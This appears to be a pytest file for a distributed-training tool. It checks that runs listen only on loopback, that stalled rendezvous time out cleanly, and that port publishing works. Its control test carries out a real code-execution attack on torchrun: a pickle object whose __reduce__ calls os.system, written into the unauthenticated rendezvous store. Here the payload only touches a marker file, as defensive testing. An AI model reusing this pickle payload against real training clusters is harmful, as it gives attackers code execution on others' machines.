"""Where a distributed run listens, read from the kernel while it runs, and the attack on its rendezvous.

torchrun's elastic agent loads its rendezvous state from its store with ``pickle.loads``, and
torch's stores authenticate nobody: whoever can reach the store can run code in the agent.

* The control (:func:`test_control_torchrun_alone_listens_everywhere_and_runs_code_sent_to_its_lan_address`)
  runs that attack on a plain ``torchrun``: its store listens on every interface, a client
  connects through this machine's own network address (the traffic never leaves the machine)
  and writes ``torch.rendezvous.<id>``; the agent runs the payload.
* A ``goodputlab run --nproc 2`` is then read from ``/proc/net/tcp{,6}`` while it runs: every
  listening socket of every one of its processes is on loopback, the agent has none at all
  (its rendezvous is a private file), and the same client is refused at every port through the
  network address. Where this machine allows it (root, ``unshare``), the run is started in a
  UTS and mount namespace where the machine's name resolves to its network address, as on most
  laptops and servers: left to themselves, gloo would listen there and torch's stores on every
  interface (``docs/SECURITY.md`` shows both).
* A rendezvous nobody completes stops within ``--rdzv-timeout`` with one line and exit 2, and
  leaves no process behind (the process table is read after).
"""

from __future__ import annotations

import base64
import datetime
import ipaddress
import os
import pickle
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from goodputlab.distributed.binding import BIND_ENV, LOOPBACK, PORT_FILE_ENV, _ipv4_of, await_port, publish_port
from goodputlab.distributed.launcher import port_file, remove_rendezvous_file, rendezvous_file

RUN_LIMIT_S = 240


# --- reading the kernel's socket tables ------------------------------------------------------------
def _address(hex_addr: str) -> str:
    raw = bytes.fromhex(hex_addr)
    words = b"".join(raw[i : i + 4][::-1] for i in range(0, len(raw), 4))  # each 32-bit word is host-endian
    return str(ipaddress.ip_address(words))


def listening_sockets() -> dict[int, tuple[str, int]]:
    """Every listening TCP socket of this machine: inode -> (address, port)."""
    found = {}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(table) as f:
            next(f)
            for line in f:
                parts = line.split()
                local, state, inode = parts[1], parts[3], int(parts[9])
                if state == "0A":  # TCP_LISTEN
                    addr, port = local.split(":")
                    found[inode] = (_address(addr), int(port, 16))
    return found


def socket_inodes(pid: int) -> set[int]:
    found = set()
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return found
    for fd in fds:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if target.startswith("socket:["):
            found.add(int(target[8:-1]))
    return found


def _parent(pid: int) -> int | None:
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            stat = f.read()
    except OSError:
        return None
    return int(stat[stat.rindex(b")") + 2 :].split()[1])


def descendants(root: int) -> set[int]:
    """``root`` and every process below it."""
    parents = {int(p): _parent(int(p)) for p in os.listdir("/proc") if p.isdigit()}
    tree, grew = {root}, True
    while grew:
        new = {p for p, pp in parents.items() if pp in tree} - tree
        tree |= new
        grew = bool(new)
    return tree


def cmdline(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def processes_mentioning(text: str) -> list[str]:
    return [f"{p}: {cmdline(int(p))}" for p in os.listdir("/proc") if p.isdigit() and text in cmdline(int(p))]


def lan_address() -> str | None:
    """This machine's first IPv4 address that is not loopback (traffic to it stays on this machine)."""
    for _, name in socket.if_nameindex():
        addr = _ipv4_of(name)
        if addr is not None and not ipaddress.ip_address(addr).is_loopback:
            return addr
    return None


def refused(address: str, port: int) -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        try:
            s.connect((address, port))
        except ConnectionRefusedError:
            return True
    return False


LAN_NAME = "goodputlab-lan-node"


def lan_namespace(lan: str | None, tmp: Path) -> list[str]:
    """A command prefix that runs in a UTS and mount namespace where this machine is called
    :data:`LAN_NAME` and that name resolves to ``lan`` (``[]`` where that cannot be made here)."""
    if lan is None or os.geteuid() != 0 or shutil.which("unshare") is None:
        return []
    hosts = tmp / "hosts"
    hosts.write_text(f"127.0.0.1 localhost\n{lan} {LAN_NAME}\n")
    prefix = ["unshare", "--uts", "--mount", "sh", "-c",
              f'mount --bind "{hosts}" /etc/hosts && hostname {LAN_NAME} && exec "$@"', "sh"]
    probe = subprocess.run([*prefix, "getent", "hosts", LAN_NAME], capture_output=True, text=True)
    return prefix if probe.returncode == 0 and probe.stdout.split()[:1] == [lan] else []


class RunsCode:
    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def attack(address: str, port: int, run_id: str, marker: Path) -> None:
    """Write a rendezvous state that runs ``touch marker`` when an agent loads it (the issue's attack)."""
    import torch.distributed as dist

    client = dist.TCPStore(address, port, None, False, datetime.timedelta(seconds=10))
    client.set(f"torch.rendezvous.{run_id}", base64.b64encode(pickle.dumps(RunsCode(marker))))


def stop_session(proc: subprocess.Popen) -> None:
    try:
        os.killpg(proc.pid, 9)
    except ProcessLookupError:
        pass
    proc.wait()


# --- the control: torchrun alone ------------------------------------------------------------------
def test_control_torchrun_alone_listens_everywhere_and_runs_code_sent_to_its_lan_address(tmp_path):
    lan = lan_address()
    if lan is None:
        pytest.skip("this machine has no network address besides loopback")
    marker = tmp_path / "ran"
    proc = subprocess.Popen(
        [sys.executable, "-m", "torch.distributed.run", "--rdzv-backend", "c10d", "--rdzv-endpoint", "localhost:0",
         "--rdzv-id", "victim", "--nnodes", "1", "--nproc-per-node", "1", "--monitor-interval", "0.1",
         "--no-python", "sleep", "120"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # what --standalone does, with a known id
    try:
        deadline = time.monotonic() + 120
        agent_sockets = []
        while not agent_sockets and time.monotonic() < deadline:
            time.sleep(0.2)
            listening = listening_sockets()
            agent_sockets = [listening[i] for i in socket_inodes(proc.pid) if i in listening]
        assert agent_sockets, "torchrun's agent never listened"
        # every interface, though the endpoint said localhost (one socket, or one for IPv4 and one for IPv6)
        assert all(ipaddress.ip_address(address).is_unspecified for address, _ in agent_sockets), agent_sockets
        for port in sorted({port for _, port in agent_sockets}):
            try:
                attack(lan, port, "victim", marker)
            except (OSError, RuntimeError):  # a port that is not the store's (torch raises DistNetworkError)
                continue
        while not marker.exists() and time.monotonic() < deadline:
            time.sleep(0.2)
        assert marker.exists(), "the agent did not run the pickle written into its store"
    finally:
        stop_session(proc)


# --- a goodputlab run ---------------------------------------------------------------------------------
def test_a_run_on_one_machine_listens_on_loopback_only_and_refuses_the_attack(tmp_path, cli, cli_env):
    lan = lan_address()
    prefix = lan_namespace(lan, tmp_path)
    out = tmp_path / "run"
    marker = tmp_path / "ran"
    proc = subprocess.Popen(
        [*prefix, *cli, "run", "--nproc", "2", "--steps", "100", "--ckpt-every", "50", "--mtbf", "0", "--threads", "1",
         "--quiet", "--out", str(out)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=cli_env, start_new_session=True,
    )
    seen: dict[tuple[str, int], str] = {}  # (address, port) -> the process that listened there
    agents, rdzv_files, attacked = set(), {}, set()
    try:
        deadline = time.monotonic() + RUN_LIMIT_S
        while proc.poll() is None and time.monotonic() < deadline:
            listening = listening_sockets()
            for pid in descendants(proc.pid):
                line = cmdline(pid)
                if "torch.distributed.run" in line:
                    agents.add(pid)
                    args = line.split()
                    path = args[args.index("--rdzv-endpoint") + 1]
                    if path not in rdzv_files and os.path.exists(path):
                        rdzv_files[path] = os.stat(path).st_mode & 0o777
                for inode in socket_inodes(pid):
                    if inode in listening and listening[inode] not in seen:
                        seen[listening[inode]] = line
            for address, port in seen:
                if (address, port) in attacked or lan is None:
                    continue
                attacked.add((address, port))
                assert refused(lan, port), f"port {port} ({seen[address, port]}) accepts connections at {lan}"
            time.sleep(0.2)
        stdout, stderr = proc.communicate(timeout=60)
    finally:
        stop_session(proc)
    assert proc.returncode == 0, stderr
    assert seen, "no listening socket was seen while the run lived (the ranks' store and gloo listen)"
    outside = {a: who for a, who in seen.items() if not ipaddress.ip_address(a[0]).is_loopback}
    assert not outside, f"listening beyond loopback: {outside}"
    assert agents and not any("torch.distributed.run" in who for who in seen.values())  # the agent has no port
    assert list(rdzv_files.values()) == [0o600] and not any(os.path.exists(p) for p in rdzv_files)  # private, then gone
    assert not any(os.path.exists(port_file(p)) for p in rdzv_files)  # the ranks' port file beside it: gone too
    if lan is not None:
        assert attacked == set(seen)
        assert not marker.exists()
    if prefix:  # the ranks ran where the machine's name resolves to its network address
        from goodputlab.measure.events import read_events

        ranks = [e for log in sorted((out / "ranks").glob("events-rank*.jsonl")) for e in read_events(log)]
        assert {e.get("host") for e in ranks if e["kind"] == "init"} == {LAN_NAME}


# --- a rendezvous nobody completes --------------------------------------------------------------------
def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _cases():
    lan = lan_address()
    cases = [
        pytest.param(["--nnodes", "2", "--rdzv-endpoint", f"127.0.0.1:{_free_port()}"], "--rdzv-endpoint", id="nobody-joins"),
        pytest.param(["--rdzv-timeout", "0.01"], "--rdzv-timeout", id="one-machine-too-slow"),
    ]
    if lan is not None:  # connections to this machine's own address: refused, nothing leaves the machine
        cases.append(pytest.param(["--nnodes", "2", "--rdzv-endpoint", f"{lan}:{_free_port()}"], "--rdzv-endpoint",
                                  id="closed-port"))
    return cases


@pytest.mark.parametrize("flags,named", _cases())
def test_a_rendezvous_that_never_completes_stops_within_its_timeout_leaving_no_process(flags, named, tmp_path, cli, cli_env):
    out = tmp_path / "run"
    if "--rdzv-timeout" not in flags:
        flags = [*flags, "--rdzv-timeout", "3"]
    started = time.monotonic()
    proc = subprocess.run([*cli, "run", "--nproc", "2", *flags, "--quiet", "--out", str(out)],
                          capture_output=True, text=True, env=cli_env, timeout=120)
    elapsed = time.monotonic() - started
    lines = proc.stderr.splitlines()
    assert proc.returncode == 2, proc.stderr
    expected = "within --rdzv-timeout 3 s" if named == "--rdzv-endpoint" else "allowed: more seconds than this machine"
    assert lines[-1].startswith(f"goodputlab run: error: {named} ") and expected in lines[-1], lines[-1]
    if "--nnodes" in flags:  # the warning, then the error: two lines
        assert len(lines) == 2 and lines[0].startswith("goodputlab run: warning: --nnodes 2: the rendezvous port")
    else:
        assert len(lines) == 1
    assert elapsed < 45  # torch alone: a 60 s read timeout, a 600 s join timeout
    assert processes_mentioning(str(out)) == []
    assert (out / "summary.json").is_file()


# --- the ranks' store on a port rank 0 chose, not torchrun's MASTER_PORT -----------------------------
RANK_SCRIPT = """
import datetime, os, sys
from goodputlab.distributed.ranks import RankEnv, job_store
env = RankEnv.from_environ()
store = job_store(env, "127.0.0.1", datetime.timedelta(seconds=60))
if env.rank == 0:
    store.set("from-rank-0", "hello")
    store.wait(["rank-1-read"])  # serve the store until rank 1 has read
else:
    got = store.get("from-rank-0").decode()
    store.set("rank-1-read", "1")
    print("read", got)
print("port", os.environ["MASTER_PORT"])
"""


def _ranks_with_master_port_taken(port: int, extra_env: dict[str, str], ranks=(0, 1)) -> list[subprocess.CompletedProcess]:
    """``ranks`` of a 2-rank job's attempt 2 whose ``MASTER_PORT`` another process holds, each joining the job's store."""
    base = {**os.environ, "MASTER_ADDR": LOOPBACK, "MASTER_PORT": str(port), "WORLD_SIZE": "2",
            "TORCHELASTIC_RESTART_COUNT": "2", BIND_ENV: LOOPBACK, **extra_env}
    procs = [subprocess.Popen([sys.executable, "-c", RANK_SCRIPT], env={**base, "RANK": str(r), "LOCAL_RANK": str(r)},
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for r in ranks]
    try:
        return [subprocess.CompletedProcess(p.args, p.wait(timeout=120), p.stdout.read(), p.stderr.read()) for p in procs]
    finally:
        for p in procs:
            p.kill()


def test_rank_0_serves_the_ranks_store_on_a_port_of_its_own_when_another_process_took_master_port(tmp_path):
    """torchrun picks ``MASTER_PORT`` by binding a free port and closing it, and rank 0 binds it seconds
    later: on a busy machine another process may hold it by then. Here one does (a listener on the
    port, as a neighbour's server would be). The control: rank 0 told to bind ``MASTER_PORT`` fails
    to start. With the launch's private port file rank 0 binds a free port, publishes it there
    under its attempt, and rank 1 finds the store through it."""
    with socket.socket() as thief:
        thief.bind((LOOPBACK, 0))
        thief.listen()
        taken = thief.getsockname()[1]
        control = _ranks_with_master_port_taken(taken, {}, ranks=(0,))  # rank 1 would wait on the taker
        rdzv = rendezvous_file()
        try:
            assert os.stat(port_file(rdzv)).st_mode & 0o777 == 0o600  # private, as the rendezvous file
            ranks = _ranks_with_master_port_taken(taken, {PORT_FILE_ENV: port_file(rdzv)})
            published = Path(port_file(rdzv)).read_text()
        finally:
            remove_rendezvous_file(rdzv)
    assert control[0].returncode != 0 and "Address already in use" in control[0].stderr, control[0].stderr
    assert [r.returncode for r in ranks] == [0, 0], [r.stderr for r in ranks]
    ports = {int(line.split()[1]) for r in ranks for line in r.stdout.splitlines() if line.startswith("port ")}
    assert len(ports) == 1 and taken not in ports, ports
    assert "read hello" in ranks[1].stdout
    assert published == f"2 {ports.pop()}\n"  # attempt 2's line
    assert not os.path.exists(rdzv) and not os.path.exists(port_file(rdzv))


def test_a_rank_waits_for_its_own_attempts_port_not_an_earlier_attempts(tmp_path):
    path = tmp_path / "port"
    path.write_text("")
    publish_port(str(path), 0, 41234)  # attempt 0's rank 0, since killed
    with pytest.raises(TimeoutError, match="rank 0 of attempt 1 did not publish"):
        await_port(str(path), 1, 0.3)
    publish_port(str(path), 1, 41235)
    assert await_port(str(path), 1, 0.3) == 41235 and path.read_text() == "1 41235\n"
